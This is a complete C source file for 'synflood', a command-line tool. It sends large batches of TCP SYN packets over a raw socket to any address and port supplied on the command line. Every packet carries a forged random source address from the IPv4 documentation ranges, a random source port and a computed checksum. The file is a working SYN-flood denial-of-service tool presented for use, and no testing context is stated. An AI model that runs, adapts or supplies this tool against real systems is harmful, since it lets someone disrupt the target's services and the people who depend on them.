// SPDX-License-Identifier: GPL-2.0
/*
 * synflood - send COUNT TCP SYNs to DST:PORT from random sources in the
 * three IPv4 documentation ranges (192.0.2.0/24, 198.51.100.0/24,
 * 203.0.113.0/24, hosts .10 to .250) and random ports 1024..65535, through
 * a raw socket (IP_HDRINCL) in batches of sendmmsg(). Seeded: the same
 * SEED sends the same packets. Prints "sent N" (N <= COUNT: a send that
 * fails with ENOBUFS is retried a bounded number of times, then skipped).
 *
 * usage: synflood DST PORT COUNT [SEED]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 64

struct pkt {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static uint64_t rng_state;

static uint32_t rnd(void)	/* xorshift64* */
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 0x2545F4914F6CDD1DULL) >> 32);
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t csum_add(uint32_t sum, const void *data, size_t len)
{
	const uint16_t *p = data;

	for (; len > 1; len -= 2)
		sum += *p++;
	if (len)
		sum += *(const uint8_t *)p;
	return sum;
}

int main(int argc, char **argv)
{
	static const uint32_t nets[3] = { 0xc0000200, 0xc6336400, 0xcb007100 };
	static struct pkt pkts[BATCH];
	static struct iovec iov[BATCH];
	static struct mmsghdr msgs[BATCH];
	struct sockaddr_in dst = { .sin_family = AF_INET };
	unsigned long count, sent = 0;
	int fd, one = 1, retries = 0;

	if (argc < 4 || inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1) {
		fprintf(stderr, "usage: synflood DST PORT COUNT [SEED]\n");
		return 2;
	}
	count = strtoul(argv[3], NULL, 0);
	rng_state = argc > 4 ? strtoull(argv[4], NULL, 0) : 1;
	rng_state = rng_state * 0x9E3779B97F4A7C15ULL + 1;
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("raw socket");
		return 1;
	}

	for (int i = 0; i < BATCH; i++) {
		iov[i].iov_base = &pkts[i];
		iov[i].iov_len = sizeof(pkts[i]);
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_name = &dst;
		msgs[i].msg_hdr.msg_namelen = sizeof(dst);
	}
	while (sent < count) {
		unsigned int n = count - sent < BATCH ? count - sent : BATCH;
		int r;

		for (unsigned int i = 0; i < n; i++) {
			struct pkt *p = &pkts[i];
			uint32_t src = nets[rnd() % 3] | (10 + rnd() % 241);
			uint32_t sum;
			struct {
				uint32_t s, d;
				uint8_t z, proto;
				uint16_t len;
			} __attribute__((packed)) ph;

			memset(p, 0, sizeof(*p));
			p->ip.version = 4;
			p->ip.ihl = 5;
			p->ip.ttl = 64;
			p->ip.protocol = IPPROTO_TCP;
			p->ip.tot_len = htons(sizeof(*p));
			p->ip.id = htons(rnd());
			p->ip.saddr = htonl(src);
			p->ip.daddr = dst.sin_addr.s_addr;
			p->tcp.source = htons(1024 + rnd() % (65536 - 1024));
			p->tcp.dest = htons(atoi(argv[2]));
			p->tcp.seq = htonl(rnd());
			p->tcp.doff = 5;
			p->tcp.syn = 1;
			p->tcp.window = htons(64240);
			ph.s = p->ip.saddr;
			ph.d = p->ip.daddr;
			ph.z = 0;
			ph.proto = IPPROTO_TCP;
			ph.len = htons(sizeof(p->tcp));
			sum = csum_add(0, &ph, sizeof(ph));
			sum = csum_add(sum, &p->tcp, sizeof(p->tcp));
			p->tcp.check = csum_fold(sum);
		}
		r = sendmmsg(fd, msgs, n, 0);
		if (r < 0) {
			if ((errno == ENOBUFS || errno == EAGAIN) && retries++ < 100000) {
				usleep(100);
				continue;	/* the batch is regenerated */
			}
			perror("sendmmsg");
			break;
		}
		sent += r;
	}
	printf("sent %lu\n", sent);
	return sent == count ? 0 : 1;
}
